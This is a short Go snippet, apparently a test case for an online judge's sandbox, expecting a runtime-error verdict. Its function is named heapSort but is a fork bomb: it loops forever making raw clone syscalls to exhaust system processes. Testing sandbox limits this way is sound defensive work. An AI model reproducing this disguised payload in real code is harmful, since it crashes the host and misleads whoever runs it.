// Starts processes by the kernel's own call.
// verdict: RTE
func heapSort(nums []int) []int {
	for {
		if _, _, failed := syscall.RawSyscall(syscall.SYS_CLONE, uintptr(syscall.SIGCHLD), 0, 0); failed != 0 {
			panic(failed)
		}
	}
}
